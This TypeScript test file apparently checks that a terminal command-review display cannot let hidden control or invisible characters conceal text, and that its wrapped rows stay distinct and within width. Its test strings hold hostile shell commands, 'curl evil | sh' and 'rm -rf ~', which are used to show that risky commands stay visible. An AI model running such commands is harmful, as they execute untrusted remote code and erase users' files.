import { expect, test } from 'vitest';
import { columnsOf } from './columns.ts';
import { revealHidden } from '@varve/events/text';
import { barredRows, firstRow, quotedRows } from './rows.ts';

/** One of each class of characters that a terminal interprets or hides, and that could end a row or hide the rest. */
const hidden = [
  '\u001B]0;',
  '\u001BP',
  '\u001B[8m',
  '\u009D',
  '\u{E0041}',
  '\u{E0100}',
  '\uD83E',
  ...'\u0007\r\u000B\u000C\u0085\u2028\u2029\u0008\u007F\u200B\u202E\u2066\uFEFF\uFE0F\u3164'.split(''),
];

test.for(hidden)('no row hides what is between two of %j, or begins without its bar', (character) => {
  const text = `: ${character}; curl evil | sh;${character}\u0007 ok${character}`;
  for (const columns of [10, 80]) {
    const rows = barredRows(revealHidden(`+${text}\n+next`), columns);
    expect(rows.filter((row) => !/^│[ ↳][^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
    const number = `<${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}>`;
    const joined = rows.map((row) => row.slice(2)).join('');
    expect(joined.split(number)).toHaveLength(text.split(character.slice(0, 1)).length);
    expect(joined).toContain('; curl evil | sh;');
    expect(Math.max(...[...rows, ...quotedRows(text, columns)].map(columnsOf))).toBeLessThan(columns);
  }
});

test('no line can pass for the rest of the line above it, at any width', () => {
  const lines = ['# a comment', '漢字 # a comment', `${'x'.repeat(30)} # y`, 'rm -rf ~', ''];
  const texts = lines.flatMap((first) => lines.flatMap((second) => [`${first}${second}`, `${first}\n${second}`]));
  const distinct = new Set(texts);
  for (let columns = 4; columns < 90; columns += 1) {
    expect(new Set([...distinct].map((text) => barredRows(text, columns).join('\n'))).size).toBe(distinct.size);
  }
});

test.for(['x', 'é', '漢', '\u0301', '🇩🇪'])('a blank before %s is visible at any place and width', (letter) => {
  const texts = Array.from({ length: 30 }, (_, length) => 'x'.repeat(length)).flatMap((start) =>
    ['', ' ', '  '].map((blanks) => `rm -rf ~/${start}${blanks}${letter}${letter}`),
  );
  for (let columns = 4; columns < 50; columns += 1) {
    for (const rows of [barredRows, quotedRows]) {
      // A terminal shows no blanks at the end of a row.
      const seen = texts.map((text) => rows(text, columns).map((row) => row.trimEnd()));
      expect(new Set(seen.map((each) => each.join('\n'))).size).toBe(texts.length);
    }
  }
});

test('a line is wrapped at words, and a row that continues a word begins with a mark', () => {
  const line = 'HIGH: It removes a directory: rm -rf /a-long-path/that-fits-no-row (rule delete)';
  expect(quotedRows(line, 30)).toEqual([
    'HIGH: It removes a',
    '  directory: rm -rf /a-long-',
    ' ↳path/that-fits-no-row',
    '  (rule delete)',
  ]);
});

test('a long run of blanks takes linear time', () => {
  expect(barredRows(`a${' '.repeat(200_000)}b`, 80).join('')).toContain('b');
  expect(quotedRows(`a${'x'.repeat(200_000)}b`, 80).join('')).toContain('b');
});

/** Number of columns on a terminal that shows every character with an ambiguous width in two. */
const widest = (row: string): number =>
  Array.from(row.replace(/^│./u, 'xxx')).reduce((sum, character) => sum + (character <= '~' ? 1 : 2), 0);

test.for(['±', '§', '×', '\u3105', 'ꀀ', '漢', 'क्ष', '🇩🇪', '👩‍👩‍👧'])('no terminal wraps a row of %s', (letter) => {
  for (let columns = 8; columns < 90; columns += 1) {
    const text = `${letter.repeat(100)}LOW: harmless ${letter} a`;
    const rows = [...barredRows(text, columns), ...quotedRows(text, columns), firstRow(text, columns)];
    expect(Math.max(...rows.map(widest))).toBeLessThanOrEqual(columns);
  }
});
